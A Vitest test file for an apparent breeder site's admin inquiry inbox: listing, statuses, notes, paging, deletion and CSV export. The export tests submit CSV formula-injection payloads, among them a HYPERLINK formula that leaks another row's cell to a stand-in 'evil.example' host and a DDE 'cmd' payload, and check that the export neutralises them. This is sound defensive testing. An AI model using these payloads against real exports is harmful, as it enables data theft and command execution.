import { describe, expect, it } from 'vitest';
import type { TRPCError } from '@trpc/server';
import { parse } from 'csv-parse/sync';
import { useTestApp } from '../../../server/testing/test-app.ts';
import { signIn } from '../../../server/testing/auth.ts';
import type { SessionUser } from '../../../lib/server/trpc.ts';

const admin: SessionUser = { id: 1, username: 'breeder', isAdmin: true };

describe('admin.inquiries: the inbox', () => {
  const t = useTestApp();
  const as = () => t.caller(admin);
  let ip = 0;
  const send = (overrides: Record<string, string> = {}) =>
    t.caller(null, `10.0.0.${++ip}`).inquiries.create({
      name: 'Jane Family',
      email: 'jane@example.com',
      interest: 'available',
      message: 'We would love to meet Biscuit this weekend.',
      ...overrides,
    } as never);

  it('lists inquiries newest first with an unread count, filters by status and interest', async () => {
    await send({ name: 'First Family' });
    await send({ name: 'Second Family', interest: 'waitlist' });
    await send({ name: 'Third Family', interest: 'waitlist' });

    const list = await as().admin.inquiries.list({});
    expect(list.items.map((i) => i.name)).toEqual(['Third Family', 'Second Family', 'First Family']);
    expect(list.total).toBe(3);
    expect(list.items.every((i) => i.status === 'new' && i.readAt === null && i.notes === '')).toBe(true);
    expect(await as().admin.inquiries.unreadCount()).toEqual({ unread: 3 });

    const waitlist = await as().admin.inquiries.list({ interest: 'waitlist' });
    expect(waitlist.items.map((i) => i.name)).toEqual(['Third Family', 'Second Family']);
    expect((await as().admin.inquiries.list({ status: 'closed' })).total).toBe(0);
  });

  it('marks an inquiry read when opened, keeps private notes and moves through the statuses', async () => {
    const [newest] = (await as().admin.inquiries.list({})).items;
    const opened = await as().admin.inquiries.open({ id: newest!.id });
    expect(opened.readAt).not.toBeNull();
    expect(await as().admin.inquiries.unreadCount()).toEqual({ unread: 2 });
    // Opening again keeps the first read time.
    expect((await as().admin.inquiries.open({ id: newest!.id })).readAt).toBe(opened.readAt);

    const updated = await as().admin.inquiries.update({ id: newest!.id, status: 'in_progress', notes: 'Called back Tuesday.' });
    expect(updated).toMatchObject({ status: 'in_progress', notes: 'Called back Tuesday.' });
    expect((await as().admin.inquiries.list({ status: 'in_progress' })).items.map((i) => i.id)).toEqual([newest!.id]);
    await as().admin.inquiries.update({ id: newest!.id, status: 'closed', notes: 'Placed with Honey.' });
    expect((await as().admin.inquiries.byId({ id: newest!.id })).status).toBe('closed');

    const bad = await as()
      .admin.inquiries.update({ id: newest!.id, status: 'archived' as never, notes: '' })
      .catch((e: unknown) => e);
    expect((bad as TRPCError).code).toBe('BAD_REQUEST');

    await as().admin.inquiries.markUnread({ id: newest!.id });
    expect(await as().admin.inquiries.unreadCount()).toEqual({ unread: 3 });
  });

  it('exports CSV over HTTP for admins only, with spreadsheet formulas neutralised', async () => {
    await send({ name: '=HYPERLINK("http://evil")', phone: '+1 719 555 0100', message: '@SUM(1+1) please call me back' });
    const { cookie } = await signIn(t.orm, { isAdmin: true });
    const res = await t.app.inject({ method: 'GET', url: '/api/admin/inquiries.csv', headers: { cookie } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="inquiries.csv"');
    expect(res.headers['cache-control']).toBe('no-store');
    const lines = res.body
      .replace(/^\uFEFF/, '')
      .trim()
      .split('\r\n');
    expect(lines[0]).toBe('id,received,name,email,phone,interest,status,read,message,notes');
    expect(lines).toHaveLength(5);
    expect(lines[1]).toContain(`"'=HYPERLINK(""http://evil"")"`);
    expect(lines[1]).toContain("'+1 719 555 0100");
    expect(lines[1]).toContain("'@SUM(1+1) please call me back");
    expect(lines.slice(1).every((l) => !/(^|,)[=+\-@]/.test(l))).toBe(true);

    const filtered = await t.app.inject({ method: 'GET', url: '/api/admin/inquiries.csv?interest=waitlist', headers: { cookie } });
    expect(filtered.body.trim().split('\r\n')).toHaveLength(3);
    const badFilter = await t.app.inject({ method: 'GET', url: '/api/admin/inquiries.csv?status=bogus', headers: { cookie } });
    expect(badFilter.statusCode).toBe(400);

    const anonymous = await t.app.inject({ method: 'GET', url: '/api/admin/inquiries.csv' });
    expect(anonymous.statusCode).toBe(401);
    expect(anonymous.json().message).toBeTruthy();
    const user = await signIn(t.orm, { isAdmin: false });
    const forbidden = await t.app.inject({ method: 'GET', url: '/api/admin/inquiries.csv', headers: { cookie: user.cookie } });
    expect(forbidden.statusCode).toBe(403);
  });

  it('keeps a message with line breaks in one quoted cell and neutralises a formula on every line of it', async () => {
    const { Inquiry } = await import('./inquiry.entity.ts');
    await t.orm.em.fork().nativeDelete(Inquiry, {});
    // The tester's payload as sent, and one with a working exfiltration link to another family's address cell.
    const payloads = [
      'Hi.\n=1+1\n=HYPERLINK(...)',
      'Hi.\r\n=1+1\r\n=HYPERLINK("https://evil.example/?leak="&D3,"Click for puppy photos")',
      "Hello\r+cmd|' /C calc'!A0\n\t=2+2\n-3+3\n@SUM(A1)",
    ];
    for (const message of payloads) await send({ name: 'Mallory Family', message });
    await send({ name: 'Honest Family', email: 'honest@example.com', message: 'A plain question about Biscuit.' });
    const { cookie } = await signIn(t.orm, { isAdmin: true });
    const res = await t.app.inject({ method: 'GET', url: '/api/admin/inquiries.csv', headers: { cookie } });
    expect(res.statusCode).toBe(200);

    const rows = parse(res.body, { bom: true }) as string[][];
    expect(rows).toHaveLength(1 + payloads.length + 1);
    expect(rows.every((r) => r.length === 10)).toBe(true);
    const messages = rows.slice(1).map((r) => r[8]);
    expect(messages.slice(1).reverse()).toEqual([
      "Hi.\n'=1+1\n'=HYPERLINK(...)",
      'Hi.\r\n\'=1+1\r\n\'=HYPERLINK("https://evil.example/?leak="&D3,"Click for puppy photos")',
      "Hello\r'+cmd|' /C calc'!A0\n'\t=2+2\n'-3+3\n'@SUM(A1)",
    ]);
    expect(messages[0]).toBe('A plain question about Biscuit.');
    const cellLines = rows.flat().flatMap((cell) => cell.split(/\r\n|\r|\n/));
    expect(cellLines.length).toBeGreaterThan(rows.flat().length);
    expect(cellLines.filter((line) => /^[=+\-@\t]/.test(line))).toEqual([]);
  });

  it('pages past 50 and deletes', async () => {
    const { Inquiry } = await import('./inquiry.entity.ts');
    const em = t.orm.em.fork();
    const base = Date.now();
    for (let i = 0; i < 55; i++) {
      em.create(Inquiry, {
        name: `Bulk ${i}`,
        email: `b${i}@example.com`,
        phone: null,
        interest: 'information',
        message: 'Tell me more please.',
        status: 'new',
        notes: '',
        readAt: null,
        createdAt: new Date(base + i * 1000),
        updatedAt: new Date(),
      });
    }
    await em.flush();
    const page1 = await as().admin.inquiries.list({ page: 1 });
    expect(page1.items).toHaveLength(50);
    expect(page1.total).toBe(59);
    expect(page1.items[0]!.name).toBe('Bulk 54');
    expect((await as().admin.inquiries.list({ page: 2 })).items).toHaveLength(9);
    expect((await as().admin.inquiries.list({ search: 'bulk 1' })).total).toBe(11);

    // The export streams in batches (issue 35): read 7 at a time, the file is byte for byte the one-batch file and
    // the download's, every inquiry once, newest first.
    const { inquiriesCsv } = await import('./inquiries.admin-service.ts');
    const read = async (stream: NodeJS.ReadableStream) => {
      const chunks: Buffer[] = [];
      for await (const chunk of stream) chunks.push(Buffer.from(chunk as string));
      return Buffer.concat(chunks).toString('utf8');
    };
    const batched = await read(inquiriesCsv(t.orm.em.fork(), {}, 7));
    expect(batched).toBe(await read(inquiriesCsv(t.orm.em.fork(), {}, 1000)));
    const { cookie } = await signIn(t.orm, { isAdmin: true });
    expect((await t.app.inject({ method: 'GET', url: '/api/admin/inquiries.csv', headers: { cookie } })).body).toBe(batched);
    const exported = (parse(batched.replace(/^\uFEFF/, ''), { columns: true }) as { id: string; name: string }[]).map((r) => Number(r.id));
    expect(exported).toHaveLength(59);
    expect(exported).toEqual(page1.items.map((i) => i.id).concat((await as().admin.inquiries.list({ page: 2 })).items.map((i) => i.id)));
    expect((await read(inquiriesCsv(t.orm.em.fork(), { search: 'bulk 1' }, 3))).trim().split('\r\n')).toHaveLength(1 + 11);

    const id = page1.items[0]!.id;
    await as().admin.inquiries.remove({ id });
    expect(
      (
        (await as()
          .admin.inquiries.byId({ id })
          .catch((e: unknown) => e)) as TRPCError
      ).code,
    ).toBe('NOT_FOUND');
  });
});
